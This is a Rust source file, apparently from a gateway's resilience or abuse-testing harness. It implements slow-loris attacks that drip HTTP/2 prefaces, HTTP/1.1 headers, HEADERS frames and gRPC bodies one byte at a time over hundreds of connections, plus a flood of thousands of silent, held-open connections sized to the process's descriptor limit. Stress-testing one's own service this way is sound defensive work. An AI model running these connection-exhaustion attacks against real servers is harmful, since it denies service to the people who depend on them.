//! Connections that say little, or nothing.

use std::fs;
use std::rc::Rc;
use std::time::Duration;

use anyhow::Context as _;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::abuse::connection::{Connection, Ended};
use crate::abuse::frames::{self, END_HEADERS, PREFACE};
use crate::abuse::headers;
use crate::abuse::messages::framed;
use crate::abuse::target::Target;

/// Of each kind of drip.
const DRIPPING: usize = 100;
/// Between two bytes. A preface of 24 takes longer than the gateway waits for it.
const DRIP: Duration = Duration::from_millis(500);
const SILENT: usize = 2000;
/// Networks that they come from: more than one may have connections of its own.
const NETWORKS: usize = 5;
/// Descriptors that are left for everything else.
const OTHER_FILES: usize = 100;

/// What drips, after what was said at once.
#[derive(Clone)]
struct Drip {
    first: Vec<u8>,
    slowly: Vec<u8>,
}

/// Slow loris: byte by byte, in the preface, in the head of an HTTP/1.1 request, in a HEADERS frame, and in the body of a call.
pub(super) async fn loris(target: &Rc<Target>) -> anyhow::Result<()> {
    let spec = &target.spec;
    let greeting = [PREFACE, &frames::settings(&[])].concat();
    let head = frames::headers(1, END_HEADERS, &headers::call(&spec.method, Some(&spec.token)));
    let drips = [
        (Vec::new(), PREFACE.to_vec()),
        (
            b"POST /v1/organizations HTTP/1.1\r\n".to_vec(),
            b"x-drip: drop\r\n".repeat(100),
        ),
        (greeting.clone(), head.clone()),
        (
            [greeting, head].concat(),
            frames::data(1, &framed(&spec.parent.repeat(100))),
        ),
    ];
    let drips = drips.map(|(first, slowly)| Drip { first, slowly });
    let mut dripping = JoinSet::new();
    for drip in drips.iter().flat_map(|drip| std::iter::repeat_n(drip, DRIPPING)) {
        let (target, drip) = (Rc::clone(target), drip.clone());
        dripping.spawn_local(async move {
            super::again(&target, async |target| one_drip(target, &drip).await).await
        });
    }
    while let Some(ended) = dripping.join_next().await {
        ended.context("an attack broke")??;
    }
    Ok(())
}

async fn one_drip(target: &Rc<Target>, drip: &Drip) -> Result<(), Ended> {
    let mut connection = Connection::open(target, 1).await?;
    connection.send(&drip.first).await?;
    for byte in drip.slowly.chunks(1) {
        connection.send(byte).await?;
        connection.wait(target.end().min(Instant::now() + DRIP)).await?;
        if !target.is_running() {
            target.note("still there");
            return Err(Ended);
        }
    }
    connection.wait(target.end()).await
}

/// As many connections as this process may have: a third says nothing, a third greets, a third begins to open_http2.
pub(super) async fn silent(target: &Rc<Target>) -> anyhow::Result<()> {
    let greeting = [PREFACE, &frames::settings(&[])].concat();
    let words = [&[], PREFACE.get(..10).unwrap_or_default(), &greeting].map(<[u8]>::to_vec);
    let many = SILENT.min(descriptors()?.saturating_sub(OTHER_FILES));
    let mut silent = JoinSet::new();
    for n in 0..many {
        let (target, said) = (
            Rc::clone(target),
            words.iter().cycle().nth(n).cloned().unwrap_or_default(),
        );
        target.throttle().await?;
        silent.spawn_local(async move {
            let held = async {
                let mut connection = Connection::open(&target, (1 + n % NETWORKS) as u8).await?;
                connection.send(&said).await?;
                connection.wait(target.end()).await
            };
            if held.await.is_ok() {
                target.note("still there");
            }
        });
    }
    while let Some(ended) = silent.join_next().await {
        ended.context("an attack broke")?;
    }
    Ok(())
}

/// Files that this process may have open.
fn descriptors() -> anyhow::Result<usize> {
    let limits = fs::read_to_string("/proc/self/limits")?;
    let line = limits
        .lines()
        .find_map(|line| line.strip_prefix("Max open files"));
    let most = line.and_then(|line| line.split_whitespace().next()?.parse().ok());
    most.context("this system does not tell how many files may be open")
}
